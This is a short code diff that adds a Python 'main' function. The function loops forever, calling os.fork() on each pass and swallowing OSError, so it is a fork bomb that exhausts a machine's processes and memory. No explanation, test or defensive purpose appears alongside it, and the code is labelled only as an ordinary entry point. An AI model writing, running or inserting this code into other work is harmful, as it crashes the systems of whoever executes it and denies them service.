@@ -1,0 +1,6 @@
+def main(args):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
